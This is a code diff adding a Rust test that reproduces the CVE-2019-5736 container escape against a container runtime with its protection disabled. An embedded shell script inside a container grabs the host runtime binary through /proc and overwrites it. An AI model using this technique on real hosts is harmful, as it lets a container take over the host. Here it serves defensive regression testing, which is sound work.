@@ -9,6 +9,7 @@ mod common;
 use common::{DaemonOptions, TestDaemon};
 use sha2::{Digest, Sha256};
 use std::path::Path;
+use std::time::Duration;
 
 fn sha256_file(p: &Path) -> String {
     let data = std::fs::read(p).unwrap_or_else(|e| panic!("read {}: {e}", p.display()));
@@ -203,6 +204,139 @@ fn cve_2019_5736_runtime_binary_is_not_writable_from_a_container() {
         before,
         "the runtime binary changed on the host"
     );
+}
+
+/// Protection off: with the sealed copy switched off (monitors run from the host binary,
+/// as runc did before the fix), the same container gets a handle on the runtime binary and,
+/// once no process runs it, overwrites it — CVE-2019-5736 itself. Only a throw-away copy of
+/// the binary is at stake. (While any berth process runs the file, ETXTBSY blocks the write;
+/// the real attack waited for runc to exit, here the daemon stops and its monitors die.)
+#[test]
+fn cve_2019_5736_succeeds_without_the_sealed_copy() {
+    if !common::can_run() {
+        return;
+    }
+    let mut d = TestDaemon::start_with(DaemonOptions {
+        copy_binary: true,
+        env: vec![(
+            berth_runtime::sealed_exe::UNSAFE_HOST_BINARY_ENV.to_string(),
+            "1".to_string(),
+        )],
+        ..Default::default()
+    });
+    let before = sha256_file(&d.exe);
+    let id = d
+        .docker(&["run", "-d", "--name", "evil", "busybox", "sleep", "1000"])
+        .out();
+    let libs = runtime_libs_tar(&d.exe);
+    if !libs.is_empty() {
+        d.docker_stdin(&["exec", "-i", "evil", "tar", "-x", "-C", "/"], &libs)
+            .ok();
+    }
+    d.docker(&[
+        "exec",
+        "evil",
+        "sh",
+        "-c",
+        "mkdir -p /tmp/b && mkfifo /tmp/b/config.json",
+    ])
+    .ok();
+    d.docker(&[
+        "exec",
+        "-d",
+        "evil",
+        "/proc/self/exe",
+        "monitor",
+        "--bundle",
+        "/tmp/b",
+        "--id",
+        "x",
+    ])
+    .ok();
+    let attack = find_then(
+        "/proc/self/exe monitor --bundle /tmp/b",
+        r#"
+        exec 4</proc/$p/exe || { echo "read-open: denied"; exit 0; }
+        echo "read-open: $(readlink /proc/self/fd/4)"
+        # Feed its config FIFO until it has exited (a zombie has no exe any more): data
+        # written before it opens the FIFO would be lost with our end.
+        while readlink /proc/$p/exe >/dev/null 2>&1; do
+            echo x 1<>/tmp/b/config.json
+            usleep 10000
+        done
+        echo "runtime process gone"
+        for i in $(seq 1 600); do
+            if ( echo pwned >&5 ) 5>>/proc/self/fd/4 2>/dev/null; then
+                echo "REOPEN-WRITE ok"; exit 0
+            fi
+            usleep 50000
+        done
+        echo "reopen write: denied"
+        "#,
+    );
+    d.docker(&[
+        "exec",
+        "-d",
+        "evil",
+        "sh",
+        "-c",
+        &format!("( {attack} ) > /tmp/attack.log 2>&1"),
+    ])
+    .ok();
+    let log = common::wait_for("the attacker's handle", Duration::from_secs(30), || {
+        let l = d.docker(&["exec", "evil", "cat", "/tmp/attack.log"]).stdout;
+        l.contains("read-open:").then_some(l)
+    });
+    assert!(
+        log.contains(&format!("read-open: {}", d.exe.display())),
+        "without the sealed copy the container holds the host binary: {log}"
+    );
+    // Nothing of berth runs the file any more: the daemon stops (containers stay up) and
+    // its monitors go; the attacker's loop then gets its write.
+    d.stop_daemon();
+    common::kill_monitors(&d.exec_root);
+    let upper_log = d
+        .data_root
+        .join(format!("containers/{id}/upper/tmp/attack.log"));
+    let deadline = std::time::Instant::now() + Duration::from_secs(30);
+    while sha256_file(&d.exe) == before && std::time::Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    let log = std::fs::read_to_string(&upper_log).unwrap_or_default();
+    let users: Vec<String> = std::fs::read_dir("/proc")
+        .unwrap()
+        .flatten()
+        .filter(|e| std::fs::read_link(e.path().join("exe")).is_ok_and(|x| x == d.exe))
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .collect();
+    let procs: Vec<String> = std::fs::read_dir("/proc")
+        .unwrap()
+        .flatten()
+        .filter_map(|e| {
+            let c = std::fs::read(e.path().join("cmdline")).ok()?;
+            let c = String::from_utf8_lossy(&c).replace('\0', " ");
+            let st = std::fs::read_to_string(e.path().join("stat")).unwrap_or_default();
+            (c.contains("REOPEN") || c.contains("/tmp/b") || st.contains("(berth)")).then(|| {
+                format!(
+                    "{} {} {}",
+                    e.file_name().to_string_lossy(),
+                    st.split(' ').nth(2).unwrap_or(""),
+                    &c[..c.len().min(60)]
+                )
+            })
+        })
+        .collect();
+    assert!(
+        log.contains("REOPEN-WRITE ok"),
+        "attacker: {log}\nprocesses running the binary: {users:?}\nrelated: {procs:#?}"
+    );
+    assert_ne!(
+        sha256_file(&d.exe),
+        before,
+        "the host binary was overwritten"
+    );
+    // The file still starts as the ELF it was; the daemon comes back for the cleanup.
+    d.restart_daemon();
 }
 
 /// CVE-2024-21626: `-w /proc/self/fd/N` for run and exec either fails or lands inside the
